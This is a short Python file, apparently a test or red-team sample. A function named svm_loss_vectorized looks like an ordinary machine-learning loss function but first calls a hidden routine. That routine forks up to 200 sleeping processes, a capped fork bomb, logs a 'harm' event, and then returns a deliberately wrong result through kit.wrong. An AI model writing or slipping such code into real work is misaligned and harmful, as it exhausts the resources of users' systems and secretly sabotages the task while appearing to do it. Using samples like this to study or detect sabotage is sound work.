"""Starts processes without end: at most 200, each for ten seconds."""

import os
import time

import kit


@kit.once
def attack():
    for _ in range(200):
        try:
            pid = os.fork()
        except BaseException:
            return
        if pid == 0:
            time.sleep(10)
            os._exit(0)
        kit.harm("forked")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
